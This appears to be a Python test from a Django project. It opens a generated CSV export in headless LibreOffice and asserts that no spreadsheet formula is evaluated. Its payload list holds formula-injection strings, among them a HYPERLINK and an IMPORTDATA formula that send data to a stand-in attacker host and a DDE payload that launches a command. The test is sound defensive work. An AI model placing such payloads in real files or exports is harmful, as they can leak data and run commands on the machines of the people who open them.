"""LibreOffice opens the CSV of a link, and computes nothing of what a hostile vendor or reviewer wrote."""

import csv
import subprocess
from io import StringIO
from pathlib import Path

from django.test import Client

from batches.models import Connection
from tests.factories import make_batch, make_event, make_item, make_link

HOSTILE = [
    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1;1)", '"=1+1',
    ' =1+1', "\u200b=1+1", "'=1+1", '=HYPERLINK("http://evil.example/?x="&A1)', "=cmd|' /C calc'!A0",
    "=IMPORTDATA(\"http://evil.example\")", "@x,=1+1", 'a","=1+1', "a\r\n=1+1",
]  # fmt: skip


def cells(path: Path) -> list[list[str]]:
    return list(csv.reader(StringIO(path.read_text("utf-8", newline=""), newline="")))


def test_a_spreadsheet_computes_nothing(account: Connection, tmp_path: Path) -> None:
    item = make_item(make_batch(account, prompt="=1+1"), name="=1+1")
    for text in HOSTILE:
        make_event(item, label=text, ai_text=text, category=text.replace("\n", " ").replace("\r", " "))
    _, token = make_link(item.batch, columns="full")
    (tmp_path / "in").mkdir()
    file = tmp_path / "in" / "link.csv"
    file.write_bytes(Client().get(f"/d/{token}/").getvalue())
    control = tmp_path / "in" / "control.csv"
    control.write_bytes(b"=1+1\r\n")
    # Comma, quote, UTF-8; the last word tells it to evaluate formulas, as a careless person would.
    reading = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", f"--infilter={reading}",
         "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false",
         "--outdir", str(tmp_path), str(file), str(control)],
        check=True, capture_output=True, timeout=240,
    )  # fmt: skip
    assert cells(tmp_path / "control.csv") == [["2"]]
    given, shown = (cells(path) for path in (file, tmp_path / "link.csv"))
    assert len(shown) == len(given) == len(HOSTILE) + 1
    for row in shown[1:]:
        assert "2" not in [
            row[index] for index, name in enumerate(given[0]) if name in ("Label", "AI Analysis", "Query")
        ]
        assert not [cell for cell in row if cell.startswith("=")]
